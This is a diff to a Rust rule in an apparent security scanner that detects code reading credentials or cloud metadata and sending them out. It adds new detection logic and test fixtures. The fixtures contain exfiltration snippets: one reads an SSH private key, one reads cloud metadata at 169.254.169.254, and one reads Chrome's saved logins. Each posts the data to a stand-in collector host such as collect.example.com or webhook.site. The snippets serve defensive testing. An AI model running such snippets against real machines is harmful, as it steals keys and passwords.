@@ -3,7 +3,7 @@
 use crate::finding::{Confidence, Severity};
 use crate::scan::code::Unit;
 use crate::scan::command;
-use crate::scan::operation::Origins;
+use crate::scan::operation::{Act, Origins};
 use crate::scan::rule::{Check, Circumstance, Reporter, Rule, Sample};
 use crate::scan::sending;
 use crate::scan::sensitive;
@@ -57,6 +57,18 @@ pub static RULE: Rule = Rule {
         Sample::File(
             "scripts/a.js",
             "const fs = require('fs');\nconst key = fs.readFileSync('/root/.ssh/id_rsa', 'utf8');\nfetch('https://collect.example.com', { method: 'POST', body: key });\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import os, shutil, subprocess\nshutil.copytree(os.path.expanduser('~/.ssh'), 'backup')\nsubprocess.run(['git', 'push', 'origin'])\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data').text\nrequests.post('https://collect.example.com', data=r)\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import os, requests\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nrequests.post('https://webhook.site/0', data=load(p))\n",
         ),
         Sample::File(
             "a.ps1",
@@ -115,16 +127,61 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
             ));
         }
     }
-    if sent || !sending::reaches_out(unit) {
+    if !sent {
+        sent = relays_metadata(unit, reporter);
+    }
+    let publishes = super::publishes(unit);
+    if sent || !(publishes || sending::reaches_out(unit)) {
         return;
     }
-    for place in super::read_places(unit) {
-        reporter
-            .raise(place)
-            .message("Reads credentials or host secrets in code that reaches the network")
-            .confidence(Confidence::Medium)
-            .because(Circumstance::Unconnected);
+    let collector = sending::all(unit)
+        .into_iter()
+        .filter(|sending| !sending.origins.is_constant())
+        .find_map(|sending| sending.collector);
+    for (place, kind) in super::read_places(unit) {
+        let raised = reporter.raise(place);
+        raised.confidence(Confidence::Medium);
+        if let Some(collector) = collector {
+            // Source, way out and a stranger: how the value went matters less.
+            raised.message(format!(
+                "Reads a place that holds {} in code that sends to {}",
+                kind.word(),
+                collector.word()
+            ));
+        } else {
+            let where_to = if publishes {
+                "publishes"
+            } else {
+                "reaches the network"
+            };
+            raised
+                .message(format!(
+                    "Reads a place that holds {} in code that {where_to}",
+                    kind.word()
+                ))
+                .because(Circumstance::Unconnected);
+        }
     }
+}
+
+/// What a metadata service answered goes on to somebody else.
+fn relays_metadata(unit: &Unit, reporter: &mut Reporter<'_>) -> bool {
+    let asks = unit.lowered.operations.iter().any(|operation| {
+        matches!(&operation.act, Act::Contact { address, .. }
+            if address.text.as_deref().and_then(sensitive::kind) == Some(sensitive::Kind::Metadata))
+    });
+    let mut sent = false;
+    if asks {
+        for sending in sending::all(unit) {
+            if sending.origins.has(Origins::NETWORK) {
+                sent = true;
+                reporter
+                    .raise_flow(sending.span, &sending.way)
+                    .message("Sends what a cloud metadata service answers to another machine");
+            }
+        }
+    }
+    sent
 }
 
 /// Whether all that the unit reads of the kind is meant for the host it goes to.
